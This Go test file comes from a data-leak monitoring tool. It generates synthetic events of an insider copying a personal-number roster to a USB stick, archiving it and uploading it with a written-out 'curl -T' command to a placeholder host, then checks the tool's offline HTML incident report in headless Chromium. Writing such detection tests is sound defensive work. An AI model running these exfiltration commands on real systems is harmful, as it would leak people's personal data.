package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// browserStory writes JSON lines of one incident: tanaka, over SSH,
// copies the roster, moves the copy to a USB stick, archives it and
// uploads the archive over HTTPS; health documents around it.
func browserStory(t *testing.T, path string, at time.Time) {
	t.Helper()
	const host = "hr-db-01"
	n := 0
	var lines []string
	proc := func(id, name string, pid int, cmd string) map[string]any {
		return map[string]any{"entity_id": id, "pid": pid, "name": name, "executable": "/usr/bin/" + name, "command_line": cmd,
			"args": strings.Fields(cmd), "working_directory": "/home/tanaka", "start": at,
			"user":   map[string]any{"id": "0", "name": "root"},
			"parent": map[string]any{"entity_id": "sh", "pid": 4100, "name": "bash", "command_line": "-bash"},
			"entry_leader": map[string]any{"entity_id": "sh", "pid": 4100, "name": "bash", "command_line": "-bash",
				"user":       map[string]any{"id": "1000", "name": "tanaka"},
				"entry_meta": map[string]any{"type": "sshd", "source": map[string]any{"ip": "198.51.100.23"}}}}
	}
	emit := func(dt time.Duration, p map[string]any, kind, action string, set map[string]any) {
		n++
		d := map[string]any{"@timestamp": at.Add(dt), "host": map[string]any{"name": host},
			"event": map[string]any{"id": fmt.Sprintf("ev-%d", n), "kind": kind, "action": action, "outcome": "success"}}
		if p != nil {
			d["process"] = p
		}
		b := map[string]any{"login_user": map[string]any{"id": "1000", "name": "tanaka"}}
		for k, v := range set {
			if strings.HasPrefix(k, "bansho.") {
				b[strings.TrimPrefix(k, "bansho.")] = v
			} else {
				d[k] = v
			}
		}
		d["bansho"] = b
		js, _ := json.Marshal(d)
		lines = append(lines, string(js))
	}
	hashes := func(a, b int) []string {
		var out []string
		for i := a; i <= b; i++ {
			out = append(out, fmt.Sprintf("%064x", i))
		}
		return out
	}
	found := func(h []string, sampled, bytes int, pii ...string) map[string]any {
		return map[string]any{"my_number": map[string]any{"distinct": len(h), "hashes": h}, "corporate_number": map[string]any{"distinct": 0},
			"sampled_bytes": sampled, "truncated": sampled < bytes, "pii_types": pii}
	}
	health := func(dt time.Duration, drops int) {
		emit(dt, nil, "metric", "sensor-health", map[string]any{"bansho.health": map[string]any{"drops": map[string]any{"total": drops}, "counters": map[string]any{}}})
	}
	health(-30*time.Second, 0)
	cp := proc("cp", "cp", 4242, "cp /srv/mynumber/roster.csv /tmp/r.csv")
	emit(0, cp, "event", "exec", nil)
	emit(time.Second, cp, "event", "open", map[string]any{"file": map[string]any{"path": "/srv/mynumber/roster.csv"},
		"bansho.file": map[string]any{"protected": true, "flags": []string{"O_RDONLY"}}})
	emit(2*time.Second, cp, "event", "write", map[string]any{"file": map[string]any{"path": "/tmp/r.csv"},
		"bansho.file":    map[string]any{"tainted": true, "bytes": 48000, "syscall": "copy_file_range"},
		"bansho.content": found(hashes(1, 94), 4096, 48000, "name", "birth_date", "address")})
	emit(2*time.Second, cp, "alert", "write", map[string]any{"file": map[string]any{"path": "/tmp/r.csv"}, "rule": map[string]any{"id": "copy-out"}})
	mv := proc("mv", "mv", 4243, "mv /tmp/r.csv /media/usb/r.csv")
	emit(4*time.Second, mv, "event", "exec", nil)
	emit(5*time.Second, mv, "event", "open", map[string]any{"file": map[string]any{"path": "/tmp/r.csv"},
		"bansho.file": map[string]any{"flags": []string{"O_RDONLY"}}})
	emit(5*time.Second, mv, "event", "write", map[string]any{"file": map[string]any{"path": "/media/usb/r.csv"},
		"bansho.file":    map[string]any{"tainted": true, "bytes": 48000, "mount": map[string]any{"fstype": "vfat", "removable": true, "point": "/media/usb"}},
		"bansho.content": found(hashes(1, 94), 4096, 48000, "name", "birth_date", "address")})
	tar := proc("tar", "tar", 4244, "tar czf /tmp/r.tgz /media/usb/r.csv")
	emit(8*time.Second, tar, "event", "open", map[string]any{"file": map[string]any{"path": "/media/usb/r.csv"},
		"bansho.file": map[string]any{"flags": []string{"O_RDONLY"}}})
	emit(9*time.Second, tar, "event", "write", map[string]any{"file": map[string]any{"path": "/tmp/r.tgz"},
		"bansho.file": map[string]any{"tainted": true, "bytes": 9100}, "bansho.content": found(nil, 4096, 9100)})
	curl := proc("curl", "curl", 4245, "curl -T /tmp/r.tgz https://files.example.net/up")
	emit(12*time.Second, curl, "event", "open", map[string]any{"file": map[string]any{"path": "/tmp/r.tgz"},
		"bansho.file": map[string]any{"flags": []string{"O_RDONLY"}}})
	emit(12*time.Second, curl, "event", "connect", map[string]any{"destination": map[string]any{"ip": "203.0.113.50", "port": 443},
		"network": map[string]any{"transport": "tcp"}, "bansho.network": map[string]any{"fd": 5, "destination_class": "internet"}})
	emit(13*time.Second, curl, "event", "send", map[string]any{"bansho.network": map[string]any{"fd": 5, "tls": true, "tainted": true, "bytes": 9100},
		"bansho.content": found(nil, 4096, 9100)})
	health(30*time.Second, 2)
	if err := os.WriteFile(path, []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
}

// The HTML report in a real browser: headless Chromium loads the file
// (no network), its DOM holds the counts and the flows, and a screenshot
// is taken (kept in $BANSHO_TEST_ARTIFACTS when set).
func TestIncidentHTMLInChromium(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("chromium: %v (test/setup.sh installs it)", err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "events.json")
	at := time.Date(2026, 11, 22, 0, 59, 0, 0, time.UTC)
	browserStory(t, in, at)
	html := filepath.Join(dir, "incident.html")
	cmd := exec.Command(binary, "incident", "--input", in, "--file", "/srv/mynumber/roster.csv", "--format", "html", "--out", html,
		"--discovered", "2026-11-22T10:00:00+09:00")
	cmd.Env = append(os.Environ(), "TZ=Asia/Tokyo")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("bansho incident: %v\n%s", err, out)
	}
	page := string(mustRead(t, html))
	for _, re := range []string{`(?i)\bsrc\s*=`, `(?i)href\s*=\s*"?https?:`, `(?i)@import`, `(?i)url\(`} {
		if regexp.MustCompile(re).MatchString(page) {
			t.Errorf("the page refers to something outside itself: %s", re)
		}
	}
	browser := func(args ...string) []byte {
		t.Helper()
		full := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
			"--user-data-dir=" + filepath.Join(dir, "profile"), "--proxy-server=127.0.0.1:9", "--proxy-bypass-list=<-loopback>"}, args...)
		c := exec.Command(chromium, full...)
		c.Env = append(os.Environ(), "TZ=Asia/Tokyo")
		var stderr strings.Builder
		c.Stderr = &stderr
		out, err := c.Output()
		if err != nil {
			t.Fatalf("chromium %v: %v\n%s", args, err, stderr.String())
		}
		return out
	}
	dom := string(browser("--dump-dom", "file://"+html))
	for _, want := range []string{
		`id="persons">94以上 at least 94`, `id="persons-card">≥94<`, `id="flow-count">4<`, `class="flow"`, "198.51.100.23", "tanaka(1000)",
		"/media/usb/r.csv [vfat, リムーバブル removable]", "203.0.113.50:443 [tcp, TLS, internet]", "生年月日 birth date",
		`<svg id="timeline"`, "events-lost", "2026-11-27 10:00:00 JST", "2026-12-22 10:00:00 JST",
	} {
		if !strings.Contains(dom, want) {
			t.Errorf("the DOM has no %q", want)
		}
	}
	if n := strings.Count(dom, `<table class="flow"`); n != 4 {
		t.Errorf("%d flow tables in the DOM, want 4", n)
	}
	shot := filepath.Join(dir, "incident.png")
	browser("--screenshot="+shot, "--window-size=1280,2400", "--hide-scrollbars", "file://"+html)
	png := mustRead(t, shot)
	if len(png) < 10000 || string(png[1:4]) != "PNG" {
		t.Fatalf("screenshot: %d bytes", len(png))
	}
	if a := os.Getenv("BANSHO_TEST_ARTIFACTS"); a != "" {
		copyFile(t, shot, filepath.Join(a, "incident-report.png"))
		copyFile(t, html, filepath.Join(a, "incident-report.html"))
	}
	t.Logf("screenshot %s (%d bytes)", shot, len(png))
}
